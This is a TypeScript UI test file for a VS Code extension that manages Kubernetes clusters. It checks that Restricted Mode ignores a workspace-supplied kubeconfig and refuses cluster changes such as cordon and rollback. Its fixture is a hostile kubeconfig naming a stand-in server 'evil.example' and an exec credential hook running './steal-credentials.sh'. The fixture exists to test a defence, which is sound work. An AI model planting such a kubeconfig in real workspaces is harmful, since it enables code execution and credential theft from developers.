import { readdirSync } from "node:fs";
import * as path from "node:path";
import { AppsV1Api, CoreV1Api, KubeConfig } from "@kubernetes/client-node";
import { afterAll, beforeAll, describe, expect, onTestFailed, test } from "vitest";
import { fixturesDir } from "../harness/runExtensionHost";
import { openTestWorkbench, type Workbench } from "../harness/workbench";
import type { SandboxApiServer } from "../../sandbox/apiServer";
import { openSandboxWorkbench, type SandboxWorkbench } from "./sandboxWorkbench";
import { chooseFromContextMenu, openAiPlatformContainer, quickPickLabels, runCommand, statusBarItem, waitForQuickPick, viewPane } from "./workbenchActions";

const workspaceKubeconfig = `apiVersion: v1
kind: Config
current-context: from-workspace
clusters: [{ name: evil, cluster: { server: "https://evil.example:6443" } }]
users: [{ name: evil, user: { exec: { apiVersion: client.authentication.k8s.io/v1beta1, command: ./steal-credentials.sh } } }]
contexts: [{ name: from-workspace, context: { cluster: evil, user: evil } }]
`;

describe("Restricted Mode: an untrusted workspace cannot choose the kubeconfig", () => {
  let wb: Workbench;

  beforeAll(async () => {
    wb = await openTestWorkbench({
      trusted: false,
      env: { KUBECONFIG: path.join(fixturesDir, "kubeconfig/team-a.yaml") },
      workspaceFiles: {
        "evil-kubeconfig.yaml": workspaceKubeconfig,
        ".vscode/settings.json": JSON.stringify({ "aiPlatform.kubeconfigPaths": ["${workspaceFolder}/evil-kubeconfig.yaml", "./evil-kubeconfig.yaml"] }),
      },
    });
  });
  afterAll(async () => {
    await wb?.close();
  });

  test("the views still render, and the picker ignores the workspace's kubeconfig setting", async () => {
    onTestFailed(async () => {
      console.error(`[ui] evidence saved in ${await wb.saveEvidence("restricted")}`);
    });
    await statusBarItem(wb.page, "Restricted Mode").waitFor({ state: "visible", timeout: 30_000 });
    await openAiPlatformContainer(wb.page);
    await expect.poll(() => viewPane(wb.page, "Models").locator(".welcome-view-content").innerText(), { timeout: 20_000 }).toContain("No model registry is connected for this context");
    await runCommand(wb.page, "AI Platform: Select Kubernetes Context");
    await waitForQuickPick(wb.page, "Select Kubernetes Context");
    expect(await quickPickLabels(wb.page)).toEqual(["aks-ml-prod", "kind-gpu-lab"]);
  });
});

describe("Restricted Mode: changes to the cluster are refused with an explanation", () => {
  let server: SandboxApiServer;
  let wb: Workbench;
  let session: SandboxWorkbench | undefined;

  beforeAll(async () => {
    session = await openSandboxWorkbench({ trusted: false });
    ({ server, wb } = session);
  });
  afterAll(async () => {
    await session?.close();
  });

  test("Cordon says why it is disabled, and the node stays schedulable", async () => {
    onTestFailed(async () => {
      console.error(`[ui] evidence saved in ${await wb.saveEvidence("restricted-cordon")}`);
    });
    await openAiPlatformContainer(wb.page);
    await viewPane(wb.page, "Models").locator(".pane-header").click();
    const nodeRow = viewPane(wb.page, "GPU Nodes").locator(".monaco-list-row").filter({ has: wb.page.locator(".label-name", { hasText: /^aks-t4pool-.*0$/ }) }).first();
    await nodeRow.waitFor({ state: "visible", timeout: 30_000 });
    const nodeName = (await nodeRow.locator(".label-name").innerText()).trim();
    await chooseFromContextMenu(wb.page, nodeRow, "Cordon Node");
    await wb.page.locator(".notifications-toasts", { hasText: "Cordon is disabled in Restricted Mode" }).waitFor({ state: "visible", timeout: 10_000 });
    const kc = new KubeConfig();
    kc.loadFromString(server.kubeconfig());
    const node = await kc.makeApiClient(CoreV1Api).readNode({ name: nodeName });
    expect(node.spec?.unschedulable ?? false).toBe(false);
  });

  test("Roll Back and New Inference Service refuse too, and nothing is written or changed", async () => {
    onTestFailed(async () => {
      console.error(`[ui] evidence saved in ${await wb.saveEvidence("restricted-ship")}`);
    });
    const kc = new KubeConfig();
    kc.loadFromString(server.kubeconfig());
    const before = await kc.makeApiClient(AppsV1Api).readNamespacedDeployment({ namespace: "llm-serving", name: "vllm-llama3-70b" });
    await runCommand(wb.page, "AI Platform: Roll Back…");
    await wb.page.locator(".notifications-toasts", { hasText: "Roll Back is disabled in Restricted Mode" }).waitFor({ state: "visible", timeout: 10_000 });
    await runCommand(wb.page, "AI Platform: New Inference Service…");
    await wb.page.locator(".notifications-toasts", { hasText: "New Inference Service is disabled in Restricted Mode" }).waitFor({ state: "visible", timeout: 10_000 });
    const after = await kc.makeApiClient(AppsV1Api).readNamespacedDeployment({ namespace: "llm-serving", name: "vllm-llama3-70b" });
    expect(after.metadata?.resourceVersion).toBe(before.metadata?.resourceVersion);
    expect(readdirSync(wb.workspace)).toEqual([]);
  });
});
